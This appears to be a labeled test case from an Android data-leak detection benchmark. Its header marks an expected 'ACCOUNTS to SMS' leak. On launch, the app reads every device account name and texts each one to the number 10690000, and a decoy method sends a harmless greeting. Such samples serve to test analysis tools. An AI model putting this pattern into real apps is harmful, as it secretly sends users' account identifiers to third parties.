// about       A public method that sends is called.
// leak        ACCOUNTS sms
// permission  android.permission.GET_ACCOUNTS
package cn.example.flow;

import android.accounts.Account;
import android.accounts.AccountManager;
import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    // Which of the two methods is called.
    report();
  }

  public void report() {
    for (Account account : AccountManager.get(this).getAccounts()) {
      SmsManager.getDefault().sendTextMessage("10690000", null, account.name, null, null);
    }
  }

  public void greet() {
    SmsManager.getDefault().sendTextMessage("10690000", null, "hello", null, null);
  }
}
